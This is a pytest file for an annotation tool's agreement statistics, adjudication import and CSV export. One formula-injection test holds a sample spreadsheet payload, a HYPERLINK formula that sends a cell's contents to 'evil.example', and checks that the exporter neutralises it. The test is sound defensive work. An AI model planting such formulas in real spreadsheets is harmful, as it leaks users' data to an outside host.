"""Agreement statistics on hand-computed examples, the disagreements table and the
validated adjudication import."""
from __future__ import annotations

import math
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from xitu.agreement import (agreement_report, apply_adjudications, disagreements, krippendorff_alpha,
                            pairwise_kappa)
from xitu.labels import ADJUDICATED, LabelError, gold_labels, read_log, read_logs, record, replay

E, C, S, N = "escalation", "cooperation", "self-reliance", "none"
ROOT = Path(__file__).resolve().parents[1]


def current(table: dict[str, list]) -> pd.DataFrame:
    """replay()-shaped labels from {annotator: [label of s0, label of s1, …]} (None: not labelled)."""
    rows = [{"annotator": a, "segment_id": f"s{i}", "label": lab, "text_hash": "", "time": "", "reason": ""}
            for a, labs in table.items() for i, lab in enumerate(labs) if lab]
    return pd.DataFrame(rows, columns=["annotator", "segment_id", "label", "text_hash", "time", "reason"])


def segs(n: int) -> pd.DataFrame:
    return pd.DataFrame({"segment_id": [f"s{i}" for i in range(n)], "text": [f"text {i}" for i in range(n)],
                         "text_hash": [f"h{i}" for i in range(n)], "title": "t", "published": "2025-01-01",
                         "section": "Group 1", "heading": "Policy"})


TWO = {"A": [E, E, E, C, C, N, N, N, S, S],
       "B": [E, E, C, C, C, N, N, S, S, S]}
# Hand computation: 8 of 10 agree, p_o = 0.8. Marginals A: E3 C2 N3 S2, B: E2 C3 N2 S3, so
# p_e = (3·2 + 2·3 + 3·2 + 2·3) / 100 = 0.24 and kappa = (0.8 − 0.24) / 0.76 = 14/19.
# Alpha: 20 pairable values, each label 5 times; 4 disagreeing ordered pairs (E-C, C-E, N-S, S-N);
# alpha = 1 − (n − 1)·Σ_{c≠k} o_ck / Σ_{c≠k} n_c·n_k = 1 − 19·4 / (20² − 4·5²) = 1 − 76/300 = 56/75.

THREE = {"A": [E, C, E, None, N],
         "B": [E, C, C, N, None],
         "C": [E, None, C, N, None]}
# s4 has one label only (not pairable). Coincidences: s0 (E,E,E) o_EE += 3; s1 o_CC += 2;
# s2 (E,C,C): o_EC = o_CE = 1, o_CC += 1; s3 o_NN += 2. n_E = 4, n_C = 4, n_N = 2, n = 10;
# alpha = 1 − 9·2 / (10² − 16 − 16 − 4) = 1 − 18/64 = 0.71875.
# Kappa A×B on s0–s2: p_o = 2/3, p_e = (2·1 + 1·2)/9 = 4/9, kappa = (2/9)/(5/9) = 0.4;
# A×C on s0, s2: p_o = 1/2, p_e = (2·1)/4 = 1/2, kappa = 0; B×C on s0, s2, s3: all agree, kappa 1.


def test_kappa_and_alpha_two_annotators():
    k = pairwise_kappa(current(TWO))
    assert list(k[["annotator_a", "annotator_b", "n"]].iloc[0]) == ["A", "B", 10]
    assert k["agreement"].iloc[0] == pytest.approx(0.8)
    assert k["kappa"].iloc[0] == pytest.approx(14 / 19)
    alpha, n = krippendorff_alpha(current(TWO))
    assert alpha == pytest.approx(56 / 75) and n == 10


def test_kappa_and_alpha_three_annotators_with_missing_labels():
    k = pairwise_kappa(current(THREE)).set_index(["annotator_a", "annotator_b"])
    assert k.loc[("A", "B"), "kappa"] == pytest.approx(0.4) and k.loc[("A", "B"), "n"] == 3
    assert k.loc[("A", "C"), "kappa"] == pytest.approx(0.0) and k.loc[("A", "C"), "n"] == 2
    assert k.loc[("B", "C"), "kappa"] == pytest.approx(1.0)
    alpha, n = krippendorff_alpha(current(THREE))
    assert alpha == pytest.approx(0.71875) and n == 4


def test_perfect_agreement_and_undefined_cases():
    same = current({"A": [E, C, S], "B": [E, C, S]})
    assert pairwise_kappa(same)["kappa"].iloc[0] == pytest.approx(1.0)
    assert krippendorff_alpha(same)[0] == pytest.approx(1.0)
    one_label = current({"A": [E, E], "B": [E, E]})
    assert math.isnan(pairwise_kappa(one_label)["kappa"].iloc[0])  # 0/0: undefined, not 1 or 0
    assert math.isnan(krippendorff_alpha(one_label)[0])
    assert math.isnan(krippendorff_alpha(current({"A": [E, C]}))[0])  # nothing pairable
    assert pairwise_kappa(current({"A": [E]})).empty


def test_adjudication_log_is_not_an_annotator():
    cur = current({**TWO, ADJUDICATED: [None, None, C, None, None, None, None, S, None, None]})
    k = pairwise_kappa(cur)
    assert len(k) == 1 and k["kappa"].iloc[0] == pytest.approx(14 / 19)
    assert krippendorff_alpha(cur)[0] == pytest.approx(56 / 75)


def test_disagreements_table():
    cur = current({**TWO, ADJUDICATED: [None, None, C] + [None] * 7})
    d = disagreements(cur, segs(10))
    assert list(d["segment_id"]) == ["s7"]  # s2 is adjudicated already
    r = d.iloc[0]
    assert (r["A"], r["B"], r["text"], r["context"], r["label"], r["reason"]) == (N, S, "text 7", "Group 1: Policy", "", "")
    full = disagreements(cur, segs(10), include_adjudicated=True)
    assert list(full["segment_id"]) == ["s2", "s7"] and full["adjudicated"].iloc[0] == C
    rep = agreement_report(cur, segs(10))
    assert (rep.n_disagreements, rep.n_adjudicated, len(rep.disagreements)) == (2, 1, 1)
    text = rep.summary()
    assert "A × B: kappa 0.737 on 10 segments" in text and "alpha (nominal, all annotators): 0.747" in text
    assert "disagreements: 2 (1 adjudicated, 1 pending)" in text and "s7  A=none, B=self-reliance" in text


def write(path: Path, rows: list[dict]) -> Path:
    pd.DataFrame(rows).to_csv(path, index=False, encoding="utf-8-sig")
    return path


def test_apply_adjudications_validates_everything_before_writing(tmp_path):
    for sid in ("s1", "s2", "s3"):  # three real disagreements to adjudicate
        record(tmp_path, "a1", sid, E)
        record(tmp_path, "a2", sid, N)
    bad = write(tmp_path / "bad.csv", [
        {"segment_id": "s1", "label": C, "reason": "rule 6"},
        {"segment_id": "s99", "label": C, "reason": "x"},
        {"segment_id": "s2", "label": "war", "reason": "x"},
        {"segment_id": "s3", "label": E, "reason": " "},
        {"segment_id": "s1", "label": E, "reason": "again"},
    ])
    with pytest.raises(LabelError) as err:
        apply_adjudications(bad, tmp_path, segs(5))
    msg = str(err.value)
    assert msg.startswith("nothing written; 4 problem(s)")
    assert "bad.csv:3: unknown segment id 's99'" in msg and "bad.csv:4: unknown label 'war'" in msg
    assert "bad.csv:5: an adjudication needs its reason" in msg and "bad.csv:6: segment s1 already adjudicated on line 2" in msg
    assert not (tmp_path / "adjudicated.jsonl").exists()
    with pytest.raises(LabelError, match="missing column"):
        apply_adjudications(write(tmp_path / "cols.csv", [{"segment_id": "s1", "label": C}]), tmp_path, segs(5))


def test_apply_adjudications_appends_with_reasons_and_feeds_gold(tmp_path):
    record(tmp_path, "a1", "s1", E)
    record(tmp_path, "a2", "s1", C)
    record(tmp_path, "a1", "s2", N)
    record(tmp_path, "a2", "s2", S)
    cur = replay(read_logs(tmp_path).entries)
    assert set(gold_labels(cur)[1]["segment_id"]) == {"s1", "s2"}
    sheet = disagreements(cur, segs(5))
    sheet.loc[sheet.segment_id == "s1", ["label", "reason"]] = [C, "asking to ease controls (rule 6)"]
    path = write(tmp_path / "filled.csv", sheet.to_dict("records"))
    n = apply_adjudications(path, tmp_path, segs(5), current=cur)
    assert n == {"written": 1, "pending": 1, "unchanged": 0}
    (entry,) = read_log(tmp_path / "adjudicated.jsonl").entries
    assert (entry["segment_id"], entry["label"], entry["reason"], entry["text_hash"], entry["annotator"]) == (
        "s1", C, "asking to ease controls (rule 6)", "h1", ADJUDICATED)
    cur = replay(read_logs(tmp_path).entries)
    gold, unresolved = gold_labels(cur)
    assert gold.set_index("segment_id").loc["s1", "source"] == "adjudicated"
    assert list(unresolved["segment_id"]) == ["s2"]
    again = apply_adjudications(path, tmp_path, segs(5), current=cur)  # same file twice: no duplicate line
    assert again == {"written": 0, "pending": 1, "unchanged": 1}
    assert len(read_log(tmp_path / "adjudicated.jsonl").entries) == 1


def test_xitu_agree_command(tmp_path):
    root = tmp_path
    (root / "data" / "labels").mkdir(parents=True)
    shutil.copytree(ROOT / "data" / "raw", root / "data" / "raw")
    shutil.copytree(ROOT / "data" / "lexicon", root / "data" / "lexicon")
    from xitu.corpus import ingest

    ids = list(ingest(root / "data" / "raw").segments["segment_id"][:4])
    labels = root / "data" / "labels"
    for sid, a, b in zip(ids, [E, C, S, N], [E, C, N, N]):
        record(labels, "p1", sid, a)
        record(labels, "p2", sid, b)
    env = {**os.environ, "XITU_ROOT": str(root)}
    run = lambda *a: subprocess.run([sys.executable, "-m", "xitu.cli", "agree", *a], env=env, cwd=root,
                                    capture_output=True, text=True, timeout=60)
    out = run()
    assert out.returncode == 0, out.stderr
    assert "p1 × p2: kappa 0.667 on 4 segments, observed agreement 75.0%" in out.stdout  # p_e = 4/16: (0.75-0.25)/0.75
    assert f"{ids[2]}  p1=self-reliance, p2=none" in out.stdout
    sheet = pd.read_csv(root / "build" / "agreement" / "disagreements.csv", dtype=str, keep_default_na=False,
                        encoding="utf-8-sig")
    assert list(sheet["segment_id"]) == [ids[2]]
    sheet["label"], sheet["reason"] = "self-reliance", "builds capacity (rule 10)"
    sheet.to_csv(tmp_path / "filled.csv", index=False)
    out = run("--apply", str(tmp_path / "filled.csv"))
    assert out.returncode == 0, out.stderr
    assert "1 appended" in out.stdout and "disagreements: 1 (1 adjudicated, 0 pending)" in out.stdout
    bad = sheet.assign(reason="")
    bad.to_csv(tmp_path / "bad.csv", index=False)
    out = run("--apply", str(tmp_path / "bad.csv"))
    assert out.returncode == 2 and "nothing written" in out.stderr and "needs its reason" in out.stderr
    assert len(read_log(labels / "adjudicated.jsonl").entries) == 1


def test_adjudications_on_a_full_disk_leave_the_log_byte_identical(tmp_path, monkeypatch):
    from test_labels import _disk_fills_midway
    from xitu import labels as L

    for sid in ("s1", "s2", "s3"):
        record(tmp_path, "a1", sid, E)
        record(tmp_path, "a2", sid, C)
    record(tmp_path, ADJUDICATED, "s4", N, reason="earlier round")  # an earlier adjudication
    log = tmp_path / "adjudicated.jsonl"
    before = log.read_bytes()
    path = write(tmp_path / "filled.csv", [{"segment_id": s, "label": C, "reason": "rule 6"} for s in ("s1", "s2", "s3")])
    cur = replay(read_logs(tmp_path).entries)
    _disk_fills_midway(monkeypatch, L)
    with pytest.raises(LabelError) as err:
        apply_adjudications(path, tmp_path, segs(5), current=cur)
    assert log.read_bytes() == before
    assert "\n" not in str(err.value) and "No space left" in str(err.value)


def test_apply_refuses_segments_not_in_disagreement(tmp_path):
    record(tmp_path, "a1", "s1", E)
    record(tmp_path, "a2", "s1", C)  # a disagreement
    record(tmp_path, "a1", "s2", N)
    record(tmp_path, "a2", "s2", N)  # two annotators agree
    record(tmp_path, "a1", "s3", S)  # a single label
    rows = [{"segment_id": s, "label": C, "reason": "rule 6"} for s in ("s1", "s2", "s3", "s4")]
    with pytest.raises(LabelError) as err:
        apply_adjudications(write(tmp_path / "f.csv", rows), tmp_path, segs(5))
    msg = str(err.value)
    assert "f.csv:3: segment s2 is not in disagreement (its annotators agree on none)" in msg
    assert "f.csv:4: segment s3 is not in disagreement" in msg and "f.csv:5: segment s4 is not in disagreement" in msg
    assert "f.csv:2" not in msg and not (tmp_path / "adjudicated.jsonl").exists()
    n = apply_adjudications(write(tmp_path / "ok.csv", rows[:1]), tmp_path, segs(5))
    assert n["written"] == 1


def test_xitu_labels_import_refuses_the_adjudication_log(tmp_path):
    root = tmp_path
    (root / "data" / "labels").mkdir(parents=True)
    shutil.copytree(ROOT / "data" / "raw", root / "data" / "raw")
    (root / "in.csv").write_text("segment_id,label,reason\nx,none,because\n", encoding="utf-8")
    out = subprocess.run([sys.executable, "-m", "xitu.cli", "labels", "import", str(root / "in.csv"),
                          "--annotator", "adjudicated"], env={**os.environ, "XITU_ROOT": str(root)}, cwd=root,
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 2 and "xitu agree --apply" in out.stderr and "Traceback" not in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1
    assert not (root / "data" / "labels" / "adjudicated.jsonl").exists()


def test_the_same_gold_count_in_every_report(tmp_path):
    """Three annotators, one dissent: in gold by majority, and every report says the same."""
    from xitu.labelling import LabellingSession, label_status
    from xitu.paths import Paths

    root = tmp_path
    (root / "data" / "labels").mkdir(parents=True)
    p = Paths(root)
    for a, lab in (("a1", N), ("a2", N), ("a3", N), ("a4", E)):
        record(p.labels, a, "s0", lab)  # 3 of 4: majority (before: out of gold)
    for a, lab in (("a1", N), ("a2", E)):
        record(p.labels, a, "s1", lab)  # a tie: waits for adjudication
    record(p.labels, "a1", "s2", C)  # single: waits for a second opinion
    cur = replay(read_logs(p.labels).entries)
    line = "gold set: 2 segments (majority 1, single 1); waiting for adjudication: 1"
    assert gold_labels(cur)[0].values.tolist() == [["s0", N, "majority"], ["s2", C, "single"]]
    assert line in label_status(p).summary
    assert line in agreement_report(cur, segs(5)).summary()
    seg = segs(5).assign(article_id="x", position=0, language="en", source="src", queries="q")
    s = LabellingSession("a5", seg, p.labels, order="corpus", show_guess=False)
    assert line in s.describe()
    s.close()


def test_disagreements_csv_neutralises_formulas_but_the_logs_keep_the_text(tmp_path):
    """Formula injection (issue 12, item 12): a segment and a reason beginning with
    =HYPERLINK( reach the spreadsheet as text; the stored reason is unchanged."""
    from xitu.agreement import write_csv

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    record(tmp_path, "a1", "s1", E)
    record(tmp_path, "a2", "s1", C)
    record(tmp_path, ADJUDICATED, "s1", C, reason=evil)
    seg = segs(5)
    seg.loc[seg.segment_id == "s1", "text"] = "=1+2 " + evil
    cur = replay(read_logs(tmp_path).entries)
    table = disagreements(cur, seg, include_adjudicated=True)
    out = write_csv(table, tmp_path / "out" / "disagreements.csv")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel shows the Chinese
    back = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert back.loc[0, "adjudication_reason"] == "'" + evil and back.loc[0, "text"] == "'=1+2 " + evil
    assert not any(v.startswith(("=", "+", "-", "@")) for v in back.astype(str).values.ravel())
    assert read_log(tmp_path / "adjudicated.jsonl").entries[0]["reason"] == evil  # stored text unchanged


def test_cli_file_errors_are_one_line_and_exit_2(tmp_path):
    """A folder given as the table, a GBK table, an output in an unwritable folder or a
    folder where the output file should be: one line, exit 2, no traceback (item 13)."""
    root = tmp_path
    (root / "data" / "labels").mkdir(parents=True)
    shutil.copytree(ROOT / "data" / "raw", root / "data" / "raw")
    from xitu.corpus import ingest

    ids = list(ingest(root / "data" / "raw").segments["segment_id"][:2])
    record(root / "data" / "labels", "p1", ids[0], E)
    record(root / "data" / "labels", "p2", ids[0], C)
    (root / "gbk.csv").write_bytes(f"segment_id,label,reason\n{ids[0]},none,稀土\n".encode("gbk"))
    (root / "a-folder.csv").mkdir()
    env = {**os.environ, "XITU_ROOT": str(root)}
    cases = [(["labels", "import", str(root / "a-folder.csv"), "--annotator", "p3"], "is a folder"),
             (["agree", "--apply", str(root / "a-folder.csv")], "is a folder"),
             (["agree", "--apply", str(root / "gbk.csv")], "gbk.csv:2: not UTF-8"),
             (["labels", "import", str(root / "gbk.csv"), "--annotator", "p3"], "gbk.csv:2: not UTF-8"),
             (["agree", "--out", "/proc/disagreements.csv"], "/proc"),  # not writable, even for root
             (["agree", "--out", str(root / "a-folder.csv")], "a-folder.csv")]
    for args, expected in cases:
        out = subprocess.run([sys.executable, "-m", "xitu.cli", *args], env=env, cwd=root, capture_output=True,
                             text=True, timeout=60)
        assert out.returncode == 2, (args, out.stderr)
        assert "Traceback" not in out.stderr and len(out.stderr.strip().splitlines()) == 1, (args, out.stderr)
        assert expected in out.stderr, (args, out.stderr)


def test_xitu_labels_export_and_version(tmp_path):
    root = tmp_path
    (root / "data" / "labels").mkdir(parents=True)
    shutil.copytree(ROOT / "data" / "raw", root / "data" / "raw")
    for f in (ROOT / "data" / "labels").glob("*.jsonl"):
        shutil.copy(f, root / "data" / "labels")
    env = {**os.environ, "XITU_ROOT": str(root)}
    run = lambda *a: subprocess.run([sys.executable, "-m", "xitu.cli", *a], env=env, cwd=root, capture_output=True,
                                    text=True, timeout=120)
    out = run("labels", "export")
    assert out.returncode == 0, out.stderr
    assert "gold set: 380 segments (agreed 351, adjudicated 29)" in out.stdout
    sheet = pd.read_csv(root / "build" / "labels" / "gold.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert len(sheet) == 380 and set(sheet["decided_by"]) == {"agreed", "adjudicated"}
    assert sheet["text"].ne("").all() and sheet["annotators"].str.startswith("a1=").all()
    out = run("labels", "export", "--format", "jsonl", "--out", str(root / "g.jsonl"))
    assert out.returncode == 0 and len((root / "g.jsonl").read_text(encoding="utf-8").splitlines()) == 380
    from importlib.metadata import version

    out = run("--version")
    assert out.returncode == 0 and out.stdout.strip() == f"xitu {version('xitu')}"
